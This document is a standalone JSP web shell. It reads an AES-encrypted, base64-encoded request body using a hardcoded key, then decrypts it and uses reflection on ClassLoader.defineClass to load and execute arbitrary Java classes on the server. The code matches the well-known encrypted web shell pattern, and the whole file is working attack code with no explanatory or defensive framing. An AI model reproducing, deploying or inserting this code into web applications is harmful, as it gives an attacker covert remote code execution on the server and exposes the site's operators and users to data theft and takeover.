<%@ page import="java.lang.reflect.Method,javax.crypto.Cipher,javax.crypto.spec.SecretKeySpec" %>
<%
    if ("POST".equalsIgnoreCase(request.getMethod())) {
        String k = "1d5e266043b6ddd2";
        session.setAttribute("u", k);
        java.io.BufferedReader rd = request.getReader();
        StringBuilder sb = new StringBuilder();
        String ln;
        while ((ln = rd.readLine()) != null) sb.append(ln);
        byte[] enc = java.util.Base64.getDecoder().decode(sb.toString());
        Cipher ci = Cipher.getInstance("AES/ECB/PKCS5Padding");
        ci.init(Cipher.DECRYPT_MODE, new SecretKeySpec(k.getBytes(), "AES"));
        byte[] cls = ci.doFinal(enc);
        Method dm = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
        dm.setAccessible(true);
        ClassLoader cl = new java.net.URLClassLoader(new java.net.URL[0], Thread.currentThread().getContextClassLoader());
        Class<?> c = (Class<?>) dm.invoke(cl, cls, 0, cls.length);
        c.newInstance().equals(pageContext);
    }
%>
